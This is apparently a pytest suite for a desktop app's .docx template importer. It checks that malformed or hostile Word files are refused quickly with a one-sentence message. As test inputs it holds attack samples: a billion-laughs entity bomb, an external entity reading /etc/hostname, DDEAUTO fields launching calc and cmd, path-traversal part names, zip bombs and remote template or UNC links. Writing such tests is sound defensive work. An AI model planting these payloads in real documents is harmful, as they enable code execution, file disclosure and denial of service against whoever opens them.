"""A .docx from outside is read whole or refused with a sentence, quickly and without a trace."""

import io
import struct
import time
import warnings
import zipfile
from pathlib import Path

import pytest
from wordfiles import W

from kerjasama_desktop.documents.package import read_parts, write_parts
from kerjasama_desktop.documents.render import RenderOptions, render
from kerjasama_desktop.documents.user_docx import MAX_PARTS, MIB, read_user_docx
from kerjasama_desktop.errors import TemplateBroken
from kerjasama_desktop.paths import template

SHIPPED = template("keputusan_bpd.docx").read_bytes()
DOCUMENT = "word/document.xml"
RELATIONS = "word/_rels/document.xml.rels"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
LAUGHS = (
    '<!DOCTYPE w [<!ENTITY a "' + "ha" * 50 + '">'
    + "".join(f'<!ENTITY {b} "{f"&{a};" * 50}">' for a, b in zip("abcdefg", "bcdefgh", strict=True))
    + "]>"
)  # fmt: skip


def _with(**changes: bytes) -> bytes:
    """Return the shipped template with these parts put in or put in place of others."""
    return write_parts(read_parts(SHIPPED) | {_NAMES.get(k, k): v for k, v in changes.items()})


_NAMES = {"document": DOCUMENT, "relations": RELATIONS, "types": "[Content_Types].xml"}


def _body(xml: str, before: str = "") -> bytes:
    return (f'{before}<w:document xmlns:w="{W[1:-1]}"><w:body>{xml}</w:body></w:document>').encode()


def _code(*pieces: str) -> bytes:
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    return _body(f"<w:p>{mark.format('begin')}{runs}{mark.format('end')}</w:p>")


def _link(kind: str, target: str, mode: str = "External") -> bytes:
    where = f'Type="{_OFFICE}/{kind}" Target="{target}" TargetMode="{mode}"'
    start, _, _ = read_parts(SHIPPED)[RELATIONS].decode().partition("</Relationships>")
    return f'{start}<Relationship Id="rId9" {where}/></Relationships>'.encode()


@pytest.mark.parametrize("path", sorted(template("keputusan_bpd.docx").parent.glob("*.docx")))
def test_every_shipped_template_can_be_read(path: Path) -> None:
    parts = read_user_docx(path.read_bytes())
    assert list(parts) == list(read_parts(path.read_bytes()))
    assert b"{%p for" in parts[DOCUMENT] or b"{%tr for" in parts[DOCUMENT]


def test_what_was_read_renders_as_before(tmp_path: Path) -> None:
    path = tmp_path / "uji.docx"
    path.write_bytes(write_parts(read_user_docx(_with(document=_body("<w:p/>")))))
    assert DOCUMENT in read_parts(render(path, {}, RenderOptions()))


def test_comments_instructions_and_other_encodings_are_gone() -> None:
    odd = _body("<w:p><!-- <w:p>{%p --><?x y?><w:r><w:t>é</w:t></w:r></w:p>").decode()
    odd = f'<?xml version="1.0" encoding="UTF-16"?>{odd}'
    plain = read_user_docx(_with(document=odd.encode("utf-16")))[DOCUMENT].decode()
    assert "é</w:t>" in plain
    assert "{%p" not in plain
    assert "?x y" not in plain


@pytest.mark.parametrize(
    "relations",
    [_link("hyperlink", "https://contoh.desa.id/link"), _link("image", "media/a.png", "Internal")],
)
def test_hyperlinks_and_inner_links_may_stay(relations: bytes) -> None:
    assert read_user_docx(_with(relations=relations))[RELATIONS]


@pytest.mark.parametrize("code", [" PAGE ", ' HYPERLINK "https://x.id/ link dde" ', " TOC \\o "])
def test_ordinary_fields_may_stay(code: str) -> None:
    assert read_user_docx(_with(document=_code(code)))[DOCUMENT]


def _lying(size: int) -> bytes:
    """Return a file whose directory says that its document is `size` bytes long."""
    data = bytearray(_with(document=_body("<w:p/>")))
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        at = archive.start_dir
    while not data[at + 46 :].startswith(DOCUMENT.encode()):
        name, extra, comment = struct.unpack_from("<3H", data, at + 28)
        at += 46 + name + extra + comment
    struct.pack_into("<L", data, at + 24, size)
    return bytes(data)


def _doubled(second: str) -> bytes:
    buffer = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        with zipfile.ZipFile(buffer, "w") as archive:
            for name, content in [*read_parts(SHIPPED).items(), (second, b"<a/>")]:
                archive.writestr(name, content)
    return buffer.getvalue()


def _flag(offset: int, value: int) -> bytes:
    """Return a file with one byte of its first directory entry changed."""
    data = bytearray(SHIPPED)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        data[archive.start_dir + offset] = value
    return bytes(data)


ZIP = {
    "kosong": (b"", "bukan dokumen Word yang utuh"),
    "teks": (b"Yth. Bapak Camat", "bukan dokumen Word yang utuh"),
    "word_lama": (b"\xd0\xcf\x11\xe0" + b"\0" * 600, r"Word lama \(.doc\)"),
    "terlalu_besar": (b"PK\x03\x04" + b"\0" * 20 * MIB, "lebih besar dari 20 MB"),
    "terpotong": (SHIPPED[: len(SHIPPED) // 2], "bukan dokumen Word yang utuh"),
    "isi_rusak": (SHIPPED.replace(SHIPPED[900:930], b"x" * 30), "bukan dokumen Word yang utuh"),
    "bersandi": (_flag(8, 1), "tidak lazim"),
    "pemampatan_lain": (_flag(10, 93), "tidak lazim"),
    "ukuran_dusta": (_lying(10), "bukan dokumen Word yang utuh"),
    "ukuran_bom": (_lying(101 * MIB), "terlalu besar"),
    "bagian_banyak": (_with(**{f"a{n}": b"" for n in range(MAX_PARTS)}), "terlalu besar"),
    "bom_xml": (_with(document=_body("<w:p/>" * 2 * MIB)), "terlalu besar"),
    "bom_gambar": (_with(**{"word/media/a.bmp": bytes(101 * MIB)}), "terlalu besar"),
    "nama_ganda": (_doubled(DOCUMENT), "tidak lazim"),
    "nama_ganda_kapital": (_doubled("Word/Document.xml"), "tidak lazim"),
    "bukan_word": (_with(document=b"<a/>"), "bukan dokumen Word biasa"),
    "tanpa_dokumen": (write_parts({"[Content_Types].xml": b"<Types/>"}), "bukan dokumen Word"),
    "docm": (
        _with(types=read_parts(SHIPPED)["[Content_Types].xml"].replace(b"document.main", b"x.y")),
        "bukan dokumen Word biasa",
    ),
}  # fmt: skip
PATHS = (
    "../a.xml", "word/../../a.xml", "/etc/a.xml", "C:/a.xml", "word\\a.xml", "word/a\u202exml",
    "a/", "word//a.xml", "./a.xml", "word/..", "a\nb.xml", "a:b", "word/a.xml ", "word/a.", "~/..",
)  # fmt: skip
ACTIVE = (
    "word/vbaProject.bin", "word/VBAPROJECT.BIN", "word/vbaData.xml", "word/activeX/activeX1.xml",
    "word/embeddings/oleObject1.bin", "word/afchunk.mht",
)  # fmt: skip
XML = {
    "doctype": _body("<w:p/>", "<!DOCTYPE w>"),
    "seribu_tawa": _body("<w:p><w:r><w:t>&h;</w:t></w:r></w:p>", LAUGHS),
    "entitas_luar": _body(
        "<w:p><w:r><w:t>&x;</w:t></w:r></w:p>",
        '<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/hostname">]>',
    ),
    "entitas_parameter": _body("", '<!DOCTYPE w [<!ENTITY % x SYSTEM "http://a.invalid/">%x;]>'),
    "doctype_utf16": _body("<w:p/>", '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE w>')
    .decode()
    .encode("utf-16"),
    "tak_tertutup": b"<w:document>",
    "kosong": b"",
    "sangat_dalam": _body("<w:p>" * 9_000 + "</w:p>" * 9_000),
}
LINKS = {
    "gambar": _link("image", "https://pelacak.contoh.id/a.png"),
    "templat": _link("attachedTemplate", "https://contoh.id/jahat.dotm"),
    "templat_jaringan": _link("attachedTemplate", "file://10.0.0.1/berbagi/a.dotm"),
    "benda": _link("oleObject", "file:///C:/a.exe"),
    "bingkai": _link("frame", "https://contoh.id/a.html"),
    "ragam_huruf": _link("image", "https://contoh.id/a.png", "external"),
}
FIELDS = {
    "dde": _code("DDEAUTO c:\\\\windows\\\\system32\\\\calc.exe"),
    "dde_terbelah": _code("  DD", "EAU", 'TO "cmd" "/c calc"'),
    "teks_luar": _code('INCLUDETEXT "\\\\\\\\10.0.0.1\\\\a.docx"'),
    "gambar_luar": _code('includepicture "https://contoh.id/a.png"'),
    "tautan": _body('<w:p><w:fldSimple w:instr=" LINK Excel.Sheet.12 a.xlsx"/></w:p>'),
}
ATTACKS: dict[str, tuple[bytes, str]] = {
    **ZIP,
    **{f"nama {name!r}": (_with(**{name: b"<a/>"}), "tidak lazim") for name in PATHS},
    **{f"aktif {name}": (_with(**{name: b"<a/>"}), "makro atau benda sisipan") for name in ACTIVE},
    **{f"xml {name}": (_with(document=xml), "rusak atau memuat") for name, xml in XML.items()},
    **{f"gaya {name}": (_with(**{"word/styles.xml": xml}), "rusak") for name, xml in XML.items()},
    **{f"tautan {name}": (_with(relations=xml), "tertaut ke") for name, xml in LINKS.items()},
    **{f"bidang {name}": (_with(document=xml), "bidang Word") for name, xml in FIELDS.items()},
}


@pytest.mark.parametrize("name", ATTACKS)
def test_an_attack_is_refused_with_one_sentence(name: str) -> None:
    data, said = ATTACKS[name]
    begun = time.process_time()
    with pytest.raises(TemplateBroken, match=said) as refusal:
        read_user_docx(data)
    assert time.process_time() - begun < 1
    assert str(refusal.value).count(". ") == 0
    assert str(refusal.value).endswith(".")
